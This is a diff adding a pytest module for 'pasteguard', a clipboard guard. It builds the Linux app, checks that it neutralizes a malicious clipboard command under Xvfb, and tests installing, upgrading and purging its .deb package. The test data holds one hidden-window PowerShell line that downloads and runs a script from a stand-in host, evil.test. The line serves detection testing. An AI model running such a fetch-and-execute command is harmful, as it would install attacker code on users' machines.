@@ -1,0 +1,266 @@
+"""The built app as people get it on Linux: PyInstaller's folder, then the .deb installed with dpkg.
+
+The app is built once for the whole module (about 15-30 s on two cores) into a temporary
+folder. The guard runs under Xvfb; the .deb tests install, upgrade and remove the package for
+real, so they need root (CI runs as root) and a Debian system, and refuse to touch a
+pasteguard package that was installed before.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from app import __version__
+from app.events import Event
+from app.guard.neutralize import NEUTRAL_LINE
+from app.storage import EventStore
+from installer import build as app_build
+from installer.linux import build_deb
+from tests.desktop import desktop, wait_for
+
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.skipif(
+        sys.platform != "linux", reason="the Linux build; other systems: CI workflow"
+    ),
+]
+
+MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
+MAX_SIZE = 120_000_000  # bytes, the size target of the Linux folder
+MAX_READY_S = 3.0
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """dist/pasteguard built from this checkout, once per test session."""
+    pytest.importorskip("PyInstaller", reason="the build extra is missing: make test installs it")
+    root = tmp_path_factory.mktemp("build")
+    return app_build.build(root / "dist", root / "work")
+
+
+@pytest.fixture
+def profile(tmp_path: Path) -> dict[str, str]:
+    """An environment whose data, settings and policy live in a temporary folder."""
+    env = dict(os.environ)
+    env.update(
+        PASTEGUARD_DATA_DIR=str(tmp_path / "data"),
+        PASTEGUARD_CONFIG_DIR=str(tmp_path / "config"),
+        PASTEGUARD_POLICY=str(tmp_path / "no-policy.toml"),
+    )
+    return env
+
+
+def run(
+    program: Path | str, *args: str, env: dict[str, str], stdin: str | None = None
+) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [str(program), *args], env=env, input=stdin, capture_output=True, text=True, timeout=60
+    )
+
+
+# -- the folder --------------------------------------------------------------------------
+
+
+def test_the_build_answers_version_scan_and_status(built: Path, profile: dict[str, str]) -> None:
+    program = built / "pasteguard"
+    version = run(program, "--version", env=profile)
+    assert (version.returncode, version.stdout) == (0, f"pasteguard {__version__}\n")
+
+    scan = run(program, "scan", "--json", "--fail-on", "malicious", MALICIOUS, env=profile)
+    assert scan.returncode == 1, scan.stderr
+    assert json.loads(scan.stdout)["level"] == "malicious"
+    lines = [json.dumps({"id": 1, "text": "git status"}), json.dumps({"id": 2, "text": MALICIOUS})]
+    batch = run(program, "scan", "--jsonl", "-", env=profile, stdin="\n".join(lines) + "\n")
+    answers = [json.loads(line) for line in batch.stdout.splitlines()]
+    assert [(a["id"], a["level"]) for a in answers] == [(1, "clean"), (2, "malicious")]
+
+    # the shipped rules are found inside the bundle
+    rules = run(program, "rules", "check", env=profile)
+    assert rules.returncode == 0 and rules.stdout.endswith(" rules loaded, 0 errors\n")
+    assert int(rules.stdout.split()[0]) > 50
+
+    status = run(program, "status", env=profile)
+    assert status.returncode == 1 and json.loads(status.stdout)["running"] is False
+
+
+def test_the_build_is_one_folder_within_its_size_target(built: Path) -> None:
+    assert (built / "_internal" / "resources" / "rules").is_dir()
+    assert (built / "_internal" / "resources" / "icons" / "app.png").is_file()
+    size = app_build.folder_size(built)
+    assert size <= MAX_SIZE, f"{size / 1e6:.1f} MB"
+    # no Qt part the guard never loads slipped in
+    names = {p.name for p in built.rglob("*")}
+    assert not {n for n in names if "Qml" in n or "Quick" in n or "WebEngine" in n or "gtk" in n}
+
+
+def test_the_build_guards_the_clipboard_on_a_real_x_desktop(built: Path, tmp_path: Path) -> None:
+    program = str(built / "pasteguard")
+    data = tmp_path / "data"
+    log_path = tmp_path / "guard.log"
+    with desktop() as d, log_path.open("wb") as log:
+        d.env["PASTEGUARD_CONFIG_DIR"] = str(tmp_path / "config")
+        d.env["PASTEGUARD_POLICY"] = str(tmp_path / "no-policy.toml")
+        started = time.monotonic()
+        d.start(program, "run", "--no-tray", "--data-dir", str(data), stdout=log, stderr=log)
+        try:
+            wait_for(
+                lambda: d.run(program, "status", "--data-dir", str(data)).returncode == 0,
+                timeout=20,
+                step=0.05,
+            )
+        except TimeoutError:
+            pytest.fail("the built guard did not start:\n" + log_path.read_text(errors="replace"))
+        ready_s = time.monotonic() - started
+        status = json.loads(d.run(program, "status", "--data-dir", str(data)).stdout)
+        assert status["backend"] == "xorg" and "keyboard" not in status["degraded"]
+        assert status["ready_ms"] < MAX_READY_S * 1000 and ready_s < MAX_READY_S
+
+        d.set_clipboard(MALICIOUS)
+        wait_for(lambda: d.clipboard() == NEUTRAL_LINE, timeout=5, step=0.01)
+        d.stop()  # SIGTERM: the guard flushes its log before the X server goes
+    export = run(
+        program, "export", "--format", "jsonl", "--data-dir", str(data), env=dict(os.environ)
+    )
+    assert "clipboard_neutralized" in [
+        json.loads(line)["kind"] for line in export.stdout.splitlines()
+    ]
+
+
+# -- the Debian package ------------------------------------------------------------------
+
+
+def dpkg(*args: str) -> subprocess.CompletedProcess[str]:
+    env = dict(os.environ, DEBIAN_FRONTEND="noninteractive")
+    return subprocess.run(
+        ["dpkg", *args],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        stdin=subprocess.DEVNULL,
+    )
+
+
+def installed_version() -> str | None:
+    result = subprocess.run(
+        ["dpkg-query", "-W", "-f", "${Status} ${Version}", "pasteguard"],
+        capture_output=True,
+        text=True,
+    )
+    words = result.stdout.split()
+    return words[-1] if result.returncode == 0 and "installed" in words[:3] else None
+
+
+@pytest.fixture(scope="module")
+def deb(built: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
+    """The .deb, installed; purged again when the module's tests are done."""
+    if shutil.which("dpkg-deb") is None:
+        pytest.skip("not a Debian system")
+    if os.geteuid() != 0:
+        pytest.skip("installing a .deb needs root (CI runs as root)")
+    if subprocess.run(["dpkg-query", "-W", "pasteguard"], capture_output=True).returncode == 0:
+        pytest.fail("a pasteguard package is already on this machine; the test would replace it")
+    package = build_deb.build(built, tmp_path_factory.mktemp("deb"))
+    try:
+        result = dpkg("-i", str(package))
+        assert result.returncode == 0, result.stdout + result.stderr
+        yield package
+    finally:
+        dpkg("--purge", "pasteguard")
+
+
+def test_the_package_installs_the_app_entries_and_an_example_policy(
+    deb: Path, profile: dict[str, str]
+) -> None:
+    assert installed_version() == build_deb.deb_version()
+    version = run("/usr/bin/pasteguard", "--version", env=profile)
+    assert version.stdout == f"pasteguard {__version__}\n"
+    scan = run("/usr/bin/pasteguard", "scan", "--json", MALICIOUS, env=profile)
+    assert json.loads(scan.stdout)["level"] == "malicious"
+    assert os.path.realpath("/usr/bin/pasteguard") == "/opt/pasteguard/pasteguard"
+
+    assert Path("/usr/share/applications/pasteguard.desktop").is_file()
+    assert "Exec=/usr/bin/pasteguard" in Path("/etc/xdg/autostart/pasteguard.desktop").read_text()
+    assert Path("/usr/share/icons/hicolor/256x256/apps/pasteguard.png").is_file()
+    conffiles = dpkg("--status", "pasteguard").stdout.split("Conffiles:")[1]
+    assert (
+        "/etc/pasteguard/policy.toml" in conffiles
+        and "/etc/xdg/autostart/pasteguard.desktop" in conffiles
+    )
+
+    # every user starts it at login; one person may turn that off for themselves, which the
+    # example policy allows (an invalid policy would forbid it: it never weakens protection)
+    person = {k: v for k, v in profile.items() if not k.startswith(("PASTEGUARD_POLICY", "XDG_"))}
+    person["HOME"] = str(Path(profile["PASTEGUARD_DATA_DIR"]).parent / "home")
+    state = run("/usr/bin/pasteguard", "autostart", "status", "--json", env=person)
+    assert state.returncode == 0 and json.loads(state.stdout)["system_entry"] is True
+    assert run("/usr/bin/pasteguard", "autostart", "disable", env=person).returncode == 0
+    assert run("/usr/bin/pasteguard", "autostart", "status", env=person).returncode == 1
+    assert "Hidden=true" in Path(person["HOME"], ".config/autostart/pasteguard.desktop").read_text()
+    # only root can change what the package installed
+    for path in (
+        Path("/etc/pasteguard/policy.toml"),
+        Path("/opt/pasteguard/pasteguard"),
+        Path("/opt/pasteguard/_internal"),
+    ):
+        info = path.stat()
+        assert info.st_uid == 0 and not info.st_mode & 0o022, path
+
+
+def test_an_upgrade_keeps_events_settings_and_the_administrators_policy(
+    deb: Path, built: Path, tmp_path: Path, profile: dict[str, str]
+) -> None:
+    data, config = Path(profile["PASTEGUARD_DATA_DIR"]), Path(profile["PASTEGUARD_CONFIG_DIR"])
+    store = EventStore.open(data)  # a store written by this version
+    for i in range(3):
+        store.append(Event(kind="clipboard_flagged", level="malicious", summary=f"lure {i}"))
+    store.flush()
+    store.close()
+    config.mkdir(parents=True)
+    (config / "settings.toml").write_text('version = 1\nmode = "warn"\n')
+    policy = Path("/etc/pasteguard/policy.toml")
+    policy.write_text(policy.read_text() + "\nallow_quit = false\n")  # the administrator's edit
+
+    newer = build_deb.build(
+        built, tmp_path / "newer", compression="gzip", version=build_deb.deb_version() + "+upgrade1"
+    )
+    result = dpkg("-i", str(newer))
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert installed_version() == build_deb.deb_version() + "+upgrade1"
+
+    assert "allow_quit = false" in policy.read_text()  # a changed conffile is kept
+    assert (config / "settings.toml").read_text() == 'version = 1\nmode = "warn"\n'
+    export = run("/usr/bin/pasteguard", "export", "--format", "jsonl", env=profile)
+    assert export.returncode == 0, export.stderr
+    events = [json.loads(line) for line in export.stdout.splitlines()]
+    assert sorted((e["summary"], e["level"]) for e in events) == [
+        (f"lure {i}", "malicious") for i in range(3)
+    ]
+
+
+def test_removal_keeps_the_policy_and_user_data_until_purge(
+    deb: Path, profile: dict[str, str]
+) -> None:
+    data = Path(profile["PASTEGUARD_DATA_DIR"])
+    data.mkdir(parents=True, exist_ok=True)
+    (data / "keep.txt").write_text("a person's file")
+    result = dpkg("-r", "pasteguard")
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert not Path("/usr/bin/pasteguard").exists() and not Path("/opt/pasteguard").exists()
+    assert Path("/etc/pasteguard/policy.toml").is_file()  # a conffile stays until purge
+    assert "deinstall ok config-files" in dpkg("--status", "pasteguard").stdout
+
+    result = dpkg("--purge", "pasteguard")
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert not Path("/etc/pasteguard").exists()
+    assert not Path("/etc/xdg/autostart/pasteguard.desktop").exists()
+    assert (data / "keep.txt").read_text() == "a person's file"
